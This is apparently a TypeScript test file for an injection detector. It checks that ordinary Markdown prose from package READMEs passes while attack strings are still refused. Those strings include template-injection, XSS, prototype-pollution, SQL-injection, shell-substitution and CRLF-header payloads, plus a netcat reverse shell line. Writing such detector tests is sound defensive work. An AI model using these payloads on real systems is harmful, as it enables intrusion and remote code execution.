/**
 * Markdown prose from package READMEs and changelogs (the kind `test/fixtures/heldout/` holds, in new
 * words): inline code spans, issue links and names of dangerous things are what such text is made of.
 * Each case pairs a sentence that passes at the default level with the attack next to it that is
 * still refused.
 */
import { describe, it } from "@effect/vitest"
import { expectVerdicts } from "./harness.js"

describe("Markdown prose at the default level", () => {
  it.effect("a template opener closed before a code span is not an expression naming it", () =>
    expectVerdicts([
      "- [#12](https://github.com/acme/widgets/issues/12) `client.bind` now takes the context first",
      "Unbalanced input uses the first closed pair: for example `{{b}` gives `['{', 'b', '']`.",
      "* **loader:** pass the module format to hooks ([#41](https://github.com/acme/loader/issues/41)) import order kept"
    ], [
      "{{config.items()}}",
      "{{ {}.__class__.__base__.__subclasses__() }}",
      "#{`id`}",
      "[#assign ex=\"freemarker.template.utility.Execute\"?new()]${ex(\"id\")}"
    ]))

  it.effect("a sink named in inline code is not a tagged template call", () =>
    expectVerdicts([
      "You can import `logLevels` to configure the logger with the standard levels.",
      "A small HTTP client with an `axios` like interface on top of `node-fetch`.",
      "Old browsers do not support `Function.prototype.bind`."
    ], ["alert`1`", "[].sort.call`${alert}1`", "[  ] . sort . call ` ${ alert } 1 `", "top.eval`alert\\x281\\x29`"]))

  it.effect("`__proto__` named in inline code is a mention; a prototype path still counts", () =>
    expectVerdicts([
      "If present, the `Object.prototype.__proto__` getter and setter, bound.",
      "* [Fix] Refuse to merge a `__proto__` key (#12)"
    ], ["a.__proto__.isAdmin=1", "x[__proto__][admin]=1", "constructor.prototype.polluted=yes"]))

  it.effect("`child_process` as a word passes; code that reaches it still counts", () =>
    expectVerdicts([
      "Cross platform child_process#spawn and child_process#spawnSync",
      "spawn exec tiny child_process process"
    ], [
      "require('child_process').exec('id')",
      "global.process.mainModule.constructor._load('child_process').execSync('id')",
      "child_process.execSync('id')"
    ]))

  it.effect("inline code spans in prose are not back-quoted SQL identifiers; a closing back-quote still counts", () =>
    expectVerdicts([
      "**Supported MySQL versions:** `>= 5.7`",
      "Start the server with `--verbose` to see each request.",
      "- Require Node.js `>= 18`\n- Fail early when the config file is missing"
    ], ["admin`-- ", "1` or 1=1 -- ", "` or 1=1 -- `", "name` desc, (select sleep(5)) #", "from `information_schema`.tables limit"]))

  it.effect("a code span after an abbreviation or before a verb that names a command is inline code; a substitution after a command still counts", () =>
    expectVerdicts([
      "Flags are combined: a group like `-abc` expand into three flags. So `-vvv` raises the log level.",
      "Send a signal to report progress. Eg. `rsync` will print how many files it has copied so far.",
      "Most settings have defaults. Note: `timeout` install scripts read it from the environment."
    ], ["`id`", "a;`id`", "echo `id`", "echo. `id` is here now", "name=`whoami`", "foo `id` bar"]))

  it.effect("a Markdown link to a relative file before a `;` is no PHP call of an index; an index or a callable array still is", () =>
    expectVerdicts([
      "The options are listed in [options.md](docs/options.md); the defaults in [defaults](src/defaults.ts).",
      "See the table of supported hooks in [hooks](lib/hooks.js); others are ignored.",
      "![diagram](img/flow.png); the arrows show each request."
    ], ["(system)('id');", "(x)[0]('id');", "$a[0](ls);", "['Foo','system']('id');", "$f[$_GET[0]](id);"]))

  it.effect("a scoped package or a relative path ending in a command's name is no command; a system or home path still is", () =>
    expectVerdicts([
      "@acme/uname\r\n===========\r\nMachine names for the browser.",
      "Install @scope/base64 -D and import it from lib/base64.",
      "src/whoami --json prints the signed-in account"
    ], [";bin/id", "| usr/bin/whoami", ";./whoami", ";~/whoami", "$(lib/../whoami)", "nc -e /bin/sh 10.0.0.1 4444"]))

  it.effect("a Markdown link naming a command passes; a command after its target still counts", () =>
    expectVerdicts([
      "This package instruments the [`redis`](https://www.npmjs.com/package/redis) client.",
      "See the [`mysql`](https://github.com/mysqljs/mysql) driver for the options it accepts."
    ], ["[docs](https://example.com/a);id", "[docs](https://example.com/a)|id", "[docs](http://example.com/;id)", "`id`"]))

  it.effect("a labelled sentence or an object literal's line passes; a header line still counts", () =>
    expectVerdicts([
      "Options are merged shallowly.\nNote: passing `null` as the first argument is not supported.",
      "var table = new Table({\n  head: ['Name', 'Size'],\n  colWidths: [20, 10]\n});"
    ], ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"]))
})
